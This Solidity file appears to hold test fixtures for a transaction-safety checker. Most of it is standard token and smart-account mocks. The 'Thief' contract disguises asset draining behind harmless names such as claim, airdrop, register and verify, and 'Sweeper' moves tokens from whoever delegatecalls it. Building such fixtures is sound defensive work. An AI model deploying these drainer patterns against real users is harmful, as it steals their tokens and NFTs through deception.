// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {ERC7821} from "@openzeppelin/contracts/account/extensions/draft-ERC7821.sol";
import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {IERC165} from "@openzeppelin/contracts/utils/introspection/IERC165.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Permit.sol";
import {ERC20Votes} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Votes.sol";
import {ERC4626} from "@openzeppelin/contracts/token/ERC20/extensions/ERC4626.sol";
import {ERC721} from "@openzeppelin/contracts/token/ERC721/ERC721.sol";
import {ERC1155} from "@openzeppelin/contracts/token/ERC1155/ERC1155.sol";
import {ERC6909} from "@openzeppelin/contracts/token/ERC6909/ERC6909.sol";
import {Multicall} from "@openzeppelin/contracts/utils/Multicall.sol";
import {Nonces} from "@openzeppelin/contracts/utils/Nonces.sol";

/// Contracts that the decision is judged with: standard ones that anybody mints, and one that takes all it may.

contract Money is ERC20, ERC20Permit, ERC20Votes {
    constructor() ERC20("Money", "MNY") ERC20Permit("Money") {}

    function mint(address to, uint256 amount) external {
        _mint(to, amount);
    }

    function _update(address from, address to, uint256 amount) internal override(ERC20, ERC20Votes) {
        super._update(from, to, amount);
    }

    function nonces(address owner) public view override(ERC20Permit, Nonces) returns (uint256) {
        return super.nonces(owner);
    }
}

contract Vault is ERC4626 {
    constructor(IERC20 money) ERC20("Vault", "VLT") ERC4626(money) {}
}

/// With multicall, as the collections of marketplaces have it.
contract Art is ERC721, Ownable, Multicall {
    uint256 public made;

    constructor() ERC721("Art", "ART") Ownable(msg.sender) {}

    function mint(address to, uint256 count) external {
        for (uint256 i = 0; i < count; i++) _mint(to, made++);
    }
}

/// A collection of before ERC-165: what it is cannot be found out.
contract OldArt {
    mapping(uint256 item => address) public ownerOf;
    mapping(uint256 item => address) public getApproved;
    mapping(address owner => mapping(address operator => bool)) public isApprovedForAll;

    event Transfer(address indexed from, address indexed to, uint256 indexed item);

    function mint(address to, uint256 count) external {
        for (uint256 i = 0; i < count; i++) ownerOf[i] = to;
    }

    /// Without an event, as some do it.
    function approve(address to, uint256 item) external {
        require(ownerOf[item] == msg.sender, "not yours");
        getApproved[item] = to;
    }

    function setApprovalForAll(address operator, bool approved) external {
        isApprovedForAll[msg.sender][operator] = approved;
    }

    function transferFrom(address from, address to, uint256 item) external {
        require(ownerOf[item] == from && (from == msg.sender || getApproved[item] == msg.sender), "not yours");
        ownerOf[item] = to;
        emit Transfer(from, to, item);
    }
}

contract Kinds is ERC1155 {
    constructor() ERC1155("") {}

    function mint(address to, uint256 id, uint256 count) external {
        _mint(to, id, count, "");
    }
}

contract Shards is ERC6909 {
    function mint(address to, uint256 id, uint256 count) external {
        _mint(to, id, count);
    }
}

contract Wrapped is ERC20("Wrapped", "WRP") {
    event Deposit(address indexed to, uint256 amount);
    event Withdrawal(address indexed from, uint256 amount);

    mapping(address => uint256) public held;

    function totalSupply() public view override returns (uint256) {
        return address(this).balance;
    }

    function balanceOf(address account) public view override returns (uint256) {
        return held[account];
    }

    function deposit() external payable {
        held[msg.sender] += msg.value;
        emit Deposit(msg.sender, msg.value);
    }

    function withdraw(uint256 amount) external {
        held[msg.sender] -= amount;
        emit Withdrawal(msg.sender, amount);
        (bool done,) = msg.sender.call{value: amount}("");
        require(done);
    }
}

contract Desk is Ownable, AccessControl {
    bytes32 public constant CLERK = keccak256("CLERK");

    constructor(address owner) Ownable(owner) {
        _grantRole(DEFAULT_ADMIN_ROLE, owner);
    }
}

/// Takes what it may take, under harmless names.
contract Thief {
    address public immutable boss = msg.sender;

    function claim() external payable {
        (bool done,) = boss.call{value: address(this).balance}("");
        require(done);
    }

    function airdrop(IERC20 money, uint256 amount) external {
        money.transferFrom(msg.sender, boss, amount);
    }

    function register(ERC721 art, uint256[] calldata items) external {
        for (uint256 i = 0; i < items.length; i++) art.transferFrom(msg.sender, boss, items[i]);
    }

    function verify(ERC1155 kinds, uint256[] calldata ids, uint256[] calldata counts) external {
        kinds.safeBatchTransferFrom(msg.sender, boss, ids, counts, "");
    }

    function upgrade(ERC6909 shards, uint256 id, uint256 count) external {
        shards.transferFrom(msg.sender, boss, id, count);
    }

    function swap(IERC20 money, uint256 amount, ERC721 art, uint256 item) external {
        money.transferFrom(msg.sender, boss, amount);
        art.transferFrom(msg.sender, boss, item);
    }

    /// Comes back in part.
    function rebate(IERC20 money, uint256 amount) external {
        money.transferFrom(msg.sender, address(this), amount);
        money.transfer(msg.sender, amount / 2);
    }

    function supportsInterface(bytes4 id) external pure returns (bool) {
        return id == type(IERC165).interfaceId;
    }
}

/// A smart account of its maker, with batches (ERC-7821).
contract Batcher is ERC7821 {
    address public immutable maker = msg.sender;

    function _erc7821AuthorizedExecutor(address caller, bytes32, bytes calldata) internal view override returns (bool) {
        return caller == maker;
    }
}

/// A smart account of its maker, with the function of a Safe: 1 runs the code of another contract in its place.
contract Strongbox {
    address public immutable maker = msg.sender;

    function execTransaction(
        address to,
        uint256 value,
        bytes calldata data,
        uint8 operation,
        uint256,
        uint256,
        uint256,
        address,
        address payable,
        bytes calldata
    ) external payable returns (bool done) {
        require(msg.sender == maker, "not yours");
        (done,) = operation == 1 ? to.delegatecall(data) : to.call{value: value}(data);
        require(done, "refused");
    }
}

/// Does what it likes in the place of whoever runs its code.
contract Sweeper {
    address public immutable boss = msg.sender;

    function transfer(IERC20 money, address from, uint256 amount) external {
        money.transferFrom(from, boss, amount);
    }
}
